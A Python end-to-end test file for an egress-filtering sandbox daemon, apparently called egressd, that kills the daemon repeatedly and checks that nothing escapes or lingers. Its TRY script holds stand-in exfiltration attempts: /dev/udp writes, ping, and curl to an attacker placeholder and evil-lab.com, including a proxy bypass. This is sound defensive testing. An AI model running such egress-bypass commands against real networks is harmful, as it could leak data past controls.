"""A daemon that is killed at any moment: nothing leaves unjudged, nothing of it goes on, and its successor starts clean."""

from __future__ import annotations

import contextlib
import os
import random
import signal
import subprocess
import time
from collections.abc import Iterator
from functools import partial

import pytest

from egressd.lab import Lab, topology
from egressd.lab.lab import clean_env
from tests.e2e.conftest import until
from tests.e2e.daemon import RULES, Daemon, alive, daemon, workers_of

pytestmark = pytest.mark.e2e

ORIGIN = "www.lab-origin.com"
PLAIN = """  - id: plain
    hosts: [www.lab-origin.com]
    schemes: [http]
"""
TRY = r"""
exec 2>/dev/null
echo x > /dev/udp/ATTACKER/53; (ping -c1 -W1 ATTACKER &)
while :; do
  curl -s -m 2 -o /dev/null http://www.lab-origin.com/echo
  curl -s -m 2 -o /dev/null http://ATTACKER/; curl -s -m 2 -o /dev/null http://evil-lab.com/
  curl -s -m 2 -o /dev/null --noproxy '*' https://evil-lab.com/
done
"""


@pytest.fixture
def served(shared_lab: Lab) -> Iterator[Daemon]:
    with daemon(shared_lab, RULES + PLAIN) as made:
        yield made


@pytest.mark.timeout(300)
def test_a_daemon_killed_again_and_again_lets_nothing_out_and_leaves_nothing(served: Daemon) -> None:
    cycles(served, 6, seed=1)


@pytest.mark.soak
@pytest.mark.timeout(7200)
def test_a_daemon_killed_five_hundred_times_lets_nothing_out_and_leaves_nothing(served: Daemon) -> None:
    cycles(served, int(os.environ.get("KILL_CYCLES", "500")), seed=random.randrange(2**32))


def cycles(served: Daemon, count: int, *, seed: int) -> None:
    """Kill it at moments that a seed gives: while it starts, makes, serves, ends and drains."""
    stand, lab, chance = served.stand, served.stand.lab, random.Random(seed)
    reached, ended = 0, []
    for number in range(count):
        answered = len(lab.requests(host=ORIGIN))
        with commands(served, 2) as running:
            if number:
                chance.choice([served.begin, served.start])()
            deadline = time.monotonic() + chance.choice([0.3, 1.0, 3.0]) * chance.random()
            made = 0
            while time.monotonic() < deadline and made < 12:
                made += busy(served, chance)
            doing = f"seed {seed}, cycle {number}: %s"
            if number % 3 == 0:  # however busy the machine is, some are killed in the midst of it
                until(lambda: busy(served, chance), 120, doing % "a sandbox")
                made += 1
            if number % 5 == 0:
                until(partial(more_requests, lab, answered), 120, doing % "a request in a sandbox")
            workers = workers_of(served.process.pid)
            served.process.send_signal(signal.SIGKILL)
            served.process.wait(20)
            reached += made > 0
            all_ended(workers)
            (stand.directory / "over").touch()
            ended += [process.wait(20) for process in running]
    served.start()
    assert reached >= count // 3, f"seed {seed}: hardly ever was anything made before the kill"
    assert set(ended) == {125}, f"seed {seed}"
    assert served.living == []
    assert served.files() == []
    assert lab.packets_lost() == 0
    assert lab.packets("host", address=topology.ATTACKER) == [], f"seed {seed}"
    assert lab.attacker_hits() == [], f"seed {seed}"
    judged = stand.records(event="decision", layer="request", verdict="allow", host=ORIGIN)
    assert 0 < len(lab.requests(host=ORIGIN)) <= len(judged), f"seed {seed}"
    created = {record["sandbox"] for record in stand.records(event="sandbox", detail="created")}
    over = {
        record["sandbox"] for record in stand.records(event="sandbox") if record["detail"].startswith("gone")
    }
    assert created <= over, f"seed {seed}: nobody wrote of the end of {created - over}"


def more_requests(lab: Lab, than: int) -> bool:
    return len(lab.requests(host=ORIGIN)) > than


def all_ended(workers: set[int]) -> None:
    until(lambda: not any(map(alive, workers)), what="the end of the workers")


def busy(served: Daemon, chance: random.Random) -> int:
    """Do what an operator does; whatever fails, fails because the daemon is not there yet. Returns how many were made."""
    try:
        match chance.randrange(4):
            case 0 | 1:
                return (
                    served.ask("POST", "/v1/sandboxes", {"profile": "lab", "ttl": chance.randrange(1, 9)})[0]
                    == 201
                )
            case 2:
                served.ask("POST", "/v1/reload")
            case _:
                living = served.living
                if living:
                    served.ask("DELETE", f"/v1/sandboxes/{chance.choice(living)['id']}")
    except (OSError, ValueError):
        time.sleep(0.05)
    return 0


@contextlib.contextmanager
def commands(served: Daemon, count: int) -> Iterator[list[subprocess.Popen[bytes]]]:
    """Commands in sandboxes of the daemon, as soon as there is one, that try everything until they are ended."""
    stand = served.stand
    script = TRY.replace("ATTACKER", topology.ATTACKER)
    wait = (
        'while ! curl -s -m 1 --unix-socket "$0" http://x/v1/status >/dev/null; '
        'do [ -e "$1" ] && exit 125; sleep 0.05; done; shift; exec "$@"'
    )
    over = stand.directory / "over"
    over.unlink(missing_ok=True)
    argv = [
        "sh",
        "-c",
        wait,
        str(served.socket),
        str(over),
        *stand.argv(["bash", "-c", script], ["--daemon", "--ready-timeout", "60s"]),
    ]
    started = [
        stand.lab.popen_host(
            argv, cwd=str(stand.workspace), env=clean_env(stand.lab, trust=False), privileged=not stand.lab.rootless,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        for _ in range(count)
    ]  # fmt: skip
    try:
        yield started
    finally:
        over.touch()
        for process in started:
            with contextlib.suppress(subprocess.TimeoutExpired):
                process.wait(0.1)
            process.kill()
            process.wait()
